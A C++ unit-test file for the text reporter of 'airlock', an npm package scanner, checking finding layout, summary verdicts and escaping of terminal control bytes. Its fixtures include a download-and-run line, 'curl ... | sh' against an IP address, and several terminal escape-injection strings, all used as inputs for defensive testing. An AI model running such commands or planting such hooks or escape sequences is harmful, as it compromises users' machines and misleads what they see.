// text reporter: grouping, summary line, colour only on request, and above all that bytes
// from a hostile package never reach the terminal raw.
#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "airlock/core/sink.h"
#include "airlock/report/reporter.h"
#include "report/reporters.h"

namespace airlock::report {
namespace {

TargetInfo make_target(int id, std::string path, std::string name = "x") {
  return TargetInfo{id, std::move(path), "npm-tarball", std::move(name), "1.0.0", "", ""};
}

Finding make_finding(int target, Severity s) {
  Finding f;
  f.rule = "install-hook-download-exec";
  f.severity = s;
  f.category = Category::kDownloadExec;
  f.message = "postinstall pipes curl to sh";
  f.target = target;
  f.location = Location{"package.json", 7};
  f.evidence = "curl -s http://203.0.113.7/i.sh | sh";
  return f;
}

class ReportText : public ::testing::Test {
 protected:
  void start(Severity fail_on = Severity::kHigh, bool color = false) {
    ReporterOptions o;
    o.color = color;
    rep_ = make_reporter(Format::kText, out_, o);
    rep_->begin({"scan", fail_on});
  }
  std::string finish() {
    rep_->end();
    return out_.str();
  }
  std::vector<std::string> lines() {
    std::vector<std::string> v;
    std::istringstream in(finish());
    for (std::string l; std::getline(in, l);) v.push_back(l);
    return v;
  }
  std::ostringstream out_;
  std::unique_ptr<FindingSink> rep_;
};

TEST_F(ReportText, GroupsFindingsUnderTargetHeader) {
  start();
  rep_->target(make_target(0, "evil.tgz", "evil"));
  rep_->finding(make_finding(0, Severity::kHigh));
  Finding f2 = make_finding(0, Severity::kLow);
  f2.location = Location{"bin/helper", 0};
  f2.evidence.clear();
  rep_->finding(f2);
  rep_->target(make_target(1, "good.tgz", "good"));
  const auto l = lines();
  ASSERT_EQ(l.size(), 6u) << out_.str();
  EXPECT_EQ(l[0], "evil.tgz  (npm-tarball, evil@1.0.0)");
  EXPECT_EQ(l[1],
            "  HIGH      install-hook-download-exec  package.json:7  postinstall pipes curl to sh");
  EXPECT_EQ(l[2], "            curl -s http://203.0.113.7/i.sh | sh");
  EXPECT_EQ(l[3],
            "  LOW       install-hook-download-exec  bin/helper  postinstall pipes curl to sh");
  EXPECT_EQ(l[4], "good.tgz  (npm-tarball, good@1.0.0)  clean");
  EXPECT_EQ(l[5], "airlock: 2 targets, 2 findings (max high) \u2014 verdict: block");
}

TEST_F(ReportText, ErrorsArePrintedPerTargetAndCounted) {
  start();
  rep_->target(make_target(0, "broken.tgz"));
  rep_->error({0, "cannot open archive: truncated gzip"});
  rep_->error({-1, "cannot read stdin"});
  const auto l = lines();
  ASSERT_EQ(l.size(), 5u) << out_.str();
  EXPECT_EQ(l[0], "broken.tgz  (npm-tarball, x@1.0.0)");
  EXPECT_EQ(l[1], "  ERROR     cannot open archive: truncated gzip");
  EXPECT_EQ(l[2], "(no target)");
  EXPECT_EQ(l[3], "  ERROR     cannot read stdin");
  EXPECT_EQ(l[4], "airlock: 1 target, 0 findings, 2 errors \u2014 verdict: allow");
}

TEST_F(ReportText, SummaryVerdictWarnBelowFailOn) {
  start(Severity::kCritical);
  rep_->target(make_target(0, "a.tgz"));
  rep_->finding(make_finding(0, Severity::kHigh));
  const auto l = lines();
  EXPECT_EQ(l.back(), "airlock: 1 target, 1 finding (max high) \u2014 verdict: warn");
}

TEST_F(ReportText, ManyCleanTargetsAreCountedNotListed) {
  start();
  for (int i = 0; i < 25; ++i) rep_->target(make_target(i, "pkg" + std::to_string(i)));
  rep_->finding(make_finding(24, Severity::kMedium));
  const auto l = lines();
  ASSERT_EQ(l.size(), 5u) << out_.str();
  EXPECT_EQ(l[0], "pkg24  (npm-tarball, x@1.0.0)");
  EXPECT_EQ(l[3], "24 clean targets");
  EXPECT_EQ(l[4], "airlock: 25 targets, 1 finding (max medium) \u2014 verdict: warn");
}

TEST_F(ReportText, TwentyCleanTargetsAreStillListed) {
  start();
  for (int i = 0; i < 20; ++i) rep_->target(make_target(i, "pkg" + std::to_string(i)));
  const auto l = lines();
  ASSERT_EQ(l.size(), 21u);
  EXPECT_EQ(l[0], "pkg0  (npm-tarball, x@1.0.0)  clean");
}

TEST_F(ReportText, HostileBytesAreEscapedNeverRaw) {
  start();
  TargetInfo t = make_target(0, "evil\x1b]0;pwned\x07.tgz", "ev\x1b[8mil");
  rep_->target(t);
  Finding f = make_finding(0, Severity::kCritical);
  f.evidence =
      "a\x1b[2J\x1b[1;1Hb\r\nc\td\x7f \xc2\x9b"
      "31m \xe2\x80\xae"
      "cba \xff";
  f.message = "hidden\x1b[8m text";
  f.location = Location{"lib/\x1b[31mx.js", 3};
  rep_->finding(f);
  rep_->error({0, "bad \x1b[A line"});
  const std::string out = finish();
  EXPECT_EQ(out.find('\x1b'), std::string::npos) << out;
  EXPECT_EQ(out.find('\x07'), std::string::npos);
  EXPECT_EQ(out.find('\x7f'), std::string::npos);
  EXPECT_EQ(out.find('\r'), std::string::npos);
  EXPECT_EQ(out.find("\xc2\x9b"), std::string::npos);      // C1 CSI
  EXPECT_EQ(out.find("\xe2\x80\xae"), std::string::npos);  // RIGHT-TO-LEFT OVERRIDE
  EXPECT_EQ(out.find('\xff'), std::string::npos);
  EXPECT_NE(out.find("a\\x1b[2J\\x1b[1;1Hb\\r\\nc\\td\\x7f \\u009b31m \\u202ecba \\xff"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("evil\\x1b]0;pwned\\x07.tgz"), std::string::npos);
  EXPECT_NE(out.find("hidden\\x1b[8m text"), std::string::npos);
  EXPECT_NE(out.find("lib/\\x1b[31mx.js:3"), std::string::npos);
  EXPECT_NE(out.find("bad \\x1b[A line"), std::string::npos);
}

TEST_F(ReportText, NoColourUnlessAsked) {
  start(Severity::kHigh, /*color=*/false);
  rep_->target(make_target(0, "a.tgz"));
  rep_->finding(make_finding(0, Severity::kHigh));
  EXPECT_EQ(finish().find('\x1b'), std::string::npos);
}

TEST_F(ReportText, ColourWhenAskedKeepsColumns) {
  start(Severity::kHigh, /*color=*/true);
  rep_->target(make_target(0, "a.tgz"));
  rep_->finding(make_finding(0, Severity::kHigh));
  const std::string out = finish();
  EXPECT_NE(out.find("\x1b[1;31mHIGH    \x1b[0m"), std::string::npos) << out;
  EXPECT_NE(out.find("\x1b[0m"), std::string::npos);
}

TEST(ReportSanitize, KeepsOrdinaryTextAndUtf8) {
  EXPECT_EQ(sanitize_for_terminal("plain \\d text"), "plain \\d text");
  EXPECT_EQ(sanitize_for_terminal("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80"),
            "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80");
}

TEST(ReportSanitize, EscapesInvisibleAndMalformed) {
  EXPECT_EQ(sanitize_for_terminal(std::string("a\0b", 3)), "a\\x00b");
  EXPECT_EQ(sanitize_for_terminal("zero\xe2\x80\x8bwidth"), "zero\\u200bwidth");
  EXPECT_EQ(sanitize_for_terminal("vs\xf3\xa0\x84\x80"), "vs\\U000e0100");  // GlassWorm-style
  EXPECT_EQ(sanitize_for_terminal("\xc0\xaf"), "\\xc0\\xaf");               // overlong '/'
  EXPECT_EQ(sanitize_for_terminal("\xed\xa0\x80"), "\\xed\\xa0\\x80");      // surrogate
  EXPECT_EQ(sanitize_for_terminal("\xe2\x80"), "\\xe2\\x80");               // truncated
}

TEST(ReportSanitize, TruncatesOnCodePointBoundary) {
  EXPECT_EQ(sanitize_for_terminal("\xc3\xa9\xc3\xa9\xc3\xa9", 2), "\xc3\xa9\xc3\xa9...");
  EXPECT_EQ(sanitize_for_terminal("abc", 3), "abc");
  EXPECT_EQ(sanitize_for_terminal("abc", 0), "abc");
}

}  // namespace
}  // namespace airlock::report
